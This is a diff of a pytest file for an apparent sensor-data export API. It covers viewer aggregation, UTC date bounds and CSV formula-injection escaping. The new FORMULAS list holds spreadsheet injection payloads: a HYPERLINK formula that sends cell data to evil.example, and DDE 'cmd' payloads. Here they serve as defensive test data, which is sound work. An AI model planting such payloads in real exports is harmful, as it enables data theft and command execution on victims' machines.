@@ -14,9 +14,9 @@ from psycopg.pq import TransactionStatus
 
 from livinglab_platform.access import Principal
 from livinglab_platform.core.errors import InvalidInputError
-from livinglab_platform.data import exports, queries
+from livinglab_platform.data import cells, exports, queries
 from livinglab_platform.data.schemas import Format, Interval
-from livinglab_platform.registry.schemas import Role
+from livinglab_platform.registry.schemas import Role, SensorCreate
 from tests.api.readings import fill_rollups, insert_readings, trial_with_windows
 from tests.api.world import CLI, T0, World, add_device
 
@@ -47,10 +47,16 @@ def _parquet(content: bytes) -> pa.Table:
     return pq.read_table(io.BytesIO(content))
 
 
-def _device_with_readings(world: World, device_id: str, org: str, n: int) -> int:
+def _device_with_readings(
+    world: World,
+    device_id: str,
+    org: str,
+    n: int,
+    step: timedelta = timedelta(minutes=1),
+) -> int:
     with psycopg.connect(world.dsn) as conn:
         sensor = add_device(conn, device_id, org)
-        insert_readings(conn, sensor, start=T0, n=n)
+        insert_readings(conn, sensor, start=T0, n=n, step=step)
         conn.commit()
     return sensor
 
@@ -125,15 +131,28 @@ def test_parquet_export_has_the_schema_and_the_database_rows(client, world: Worl
 
 @pytest.mark.parametrize("who", ["partner", "operator", "viewer"])
 def test_hourly_export_equals_sql_aggregates(client, world: World, who: str):
+    # 1000 readings, a minute apart, but five a minute in the first 100 minutes (enough for a
+    # viewer's minute cells; the other 900 minutes, one reading each, are left out for viewers).
     sensor = _device_with_readings(world, "dev-a", "startup-a", 1000)
     with psycopg.connect(world.dsn) as conn:
+        insert_readings(
+            conn,
+            sensor,
+            start=T0 + timedelta(seconds=10),
+            n=4 * 100,
+            step=timedelta(seconds=15),
+        )
         # Operators and viewers read the rollups; a partner's buckets come from raw readings.
         fill_rollups(conn)
         conn.commit()
+        least = 5 if who == "viewer" else 1
         expected = conn.execute(
             "SELECT time_bucket('1 hour', time), count(*), avg(value), min(value), max(value)"
-            " FROM readings WHERE sensor_id = %s GROUP BY 1 ORDER BY 1",
-            (sensor,),
+            " FROM readings WHERE sensor_id = %s AND time_bucket('1 minute', time) IN ("
+            "  SELECT time_bucket('1 minute', time) FROM readings WHERE sensor_id = %s"
+            "  GROUP BY 1 HAVING count(*) >= %s)"
+            " GROUP BY 1 ORDER BY 1",
+            (sensor, sensor, least),
         ).fetchall()
     r = client.get(
         "/api/v1/export",
@@ -148,7 +167,7 @@ def test_hourly_export_equals_sql_aggregates(client, world: World, who: str):
         (row["time"], row["count"], row["mean"], row["min"], row["max"])
         for row in table.to_pylist()
     ]
-    assert len(got) == len(expected) == 17
+    assert len(got) == len(expected) == (2 if who == "viewer" else 17)
     for g, e in zip(got, expected, strict=True):
         assert g[0] == e[0]
         assert g[1] == e[1]
@@ -164,8 +183,8 @@ def test_hourly_export_equals_sql_aggregates(client, world: World, who: str):
     assert lines[0] == "time,device_id,sensor,quantity,unit,count,mean,min,max"
     first = next(csv.reader(lines[1:2]))
     assert first[0] == "2026-05-01T00:00:00.000000Z"
-    assert int(first[5]) == 60
-    assert len(lines) == 1 + 17
+    assert int(first[5]) == 5 * 60
+    assert len(lines) == 1 + len(expected)
 
 
 def test_a_partner_gets_only_the_assignment_windows(client, world: World):
@@ -231,7 +250,7 @@ def test_a_partner_gets_only_the_assignment_windows(client, world: World):
 
 
 def test_a_viewer_gets_aggregates_but_no_raw_readings(client, world: World):
-    _device_with_readings(world, "dev-a", "startup-a", 120)
+    _device_with_readings(world, "dev-a", "startup-a", 120, step=timedelta(seconds=10))
     with psycopg.connect(world.dsn) as conn:
         fill_rollups(conn)  # viewers see whole devices, read from the rollups
     viewer = world.headers("viewer")
@@ -245,7 +264,7 @@ def test_a_viewer_gets_aggregates_but_no_raw_readings(client, world: World):
         "/api/v1/export", headers=viewer, params=_params(device="dev-a", interval="1m")
     )
     assert r.status_code == 200, r.text
-    assert len(r.text.splitlines()) == 1 + 120
+    assert len(r.text.splitlines()) == 1 + 20  # six readings a minute
 
 
 def test_refusals_are_json_errors_not_broken_downloads(client, world: World):
@@ -459,3 +478,105 @@ def test_estimates_follow_rollups_windows_and_buckets(world: World):
         assert exports.estimate_rows(conn, plan(CLI, Interval.m15)) == 24 * 4
         rows = sum(len(c) for c in queries.rows(conn, plan(partner)))
         assert rows == 3 * 60
+
+
+@pytest.mark.parametrize("path", ["/api/v1/data", "/api/v1/export"])
+def test_moments_outside_the_years_1_to_9999_in_utc_are_invalid_input(
+    client, world: World, path: str
+):
+    # 9999-12-31T23:59:59-14:00 is in the year 10000 in UTC: the review's /export answered 500.
+    _device_with_readings(world, "dev-a", "startup-a", 10)
+    operator = world.headers("operator")
+    cases = [
+        ({"end": "9999-12-31T23:59:59-14:00"}, "end"),
+        ({"start": "0001-01-01T00:00:00+01:00"}, "start"),
+        ({"start": "0001-01-01T00:30:00+01:00", "end": T0.isoformat()}, "start"),
+    ]
+    for params, field in cases:
+        r = client.get(
+            path,
+            headers=operator,
+            params={**_params(device="dev-a", interval="1d"), **params},
+        )
+        assert r.status_code == 422, (params, r.text)
+        assert [e["field"] for e in r.json()["errors"]] == [field], r.text
+    # The last moment of the year 9999 is fine, its day's bucket included.
+    r = client.get(
+        path,
+        headers=operator,
+        params=_params(device="dev-a", interval="1d", end="9999-12-31T23:59:59Z"),
+    )
+    assert r.status_code == 200, r.text
+
+
+# Text a partner controls, as a spreadsheet would run it: OWASP's formula triggers.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_are_never_formulas(client, world: World):
+    # The registry takes such text for a sensor's quantity and unit (a partner registers them).
+    for text in FORMULAS:
+        SensorCreate(key="x", quantity=text, unit=text[:30])
+    with psycopg.connect(world.dsn) as conn:
+        add_device(conn, "dev-a", "startup-a")
+        for i, text in enumerate(FORMULAS):
+            sensor = conn.execute(
+                "INSERT INTO sensors (device_id, key, quantity, unit) VALUES ('dev-a', %s, %s, %s)"
+                " RETURNING id",
+                (f"s{i}", text, text[:30]),
+            ).fetchone()[0]
+            conn.execute(
+                "INSERT INTO readings (time, sensor_id, value) VALUES (%s, %s, -5.25)",
+                (T0 + timedelta(minutes=i), sensor),
+            )
+        fill_rollups(conn)
+        conn.commit()
+    operator = world.headers("operator")
+    for interval in ("raw", "1h"):
+        r = client.get(
+            "/api/v1/export",
+            headers=operator,
+            params=_params(device="dev-a", interval=interval, format="csv"),
+        )
+        assert r.status_code == 200, r.text
+        rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
+        assert len(rows) == len(FORMULAS)
+        assert sorted(row["quantity"] for row in rows) == sorted(
+            "'" + text for text in FORMULAS
+        )
+        for row in rows:
+            assert row["unit"] == "'" + row["quantity"][1:31]
+            # Numbers stay numbers: a negative reading is not a formula.
+            assert float(row["value" if interval == "raw" else "mean"]) == -5.25
+            assert row["value" if interval == "raw" else "min"] == "-5.25"
+    # Parquet keeps the text exactly as registered.
+    r = client.get(
+        "/api/v1/export",
+        headers=operator,
+        params=_params(device="dev-a", interval="raw", format="parquet"),
+    )
+    assert sorted(_parquet(r.content).column("quantity").to_pylist()) == sorted(
+        FORMULAS
+    )
+
+
+def test_arrow_and_python_make_the_same_cells_safe():
+    texts = [*FORMULAS, "", "'", "pm2_5", "a=b", " =1", "\n=1", "-", "ug/m3"]
+    table = cells.text_columns(
+        pa.table({"text": pa.array(texts), "value": pa.array([-1.5] * len(texts))})
+    )
+    assert table.column("text").to_pylist() == [cells.text_cell(t) for t in texts]
+    assert table.column("value").to_pylist() == [-1.5] * len(texts)
+    assert [cells.text_cell(t) for t in ("", "pm2_5", " =1", "-")] == [
+        "",
+        "pm2_5",
+        " =1",
+        "'-",
+    ]
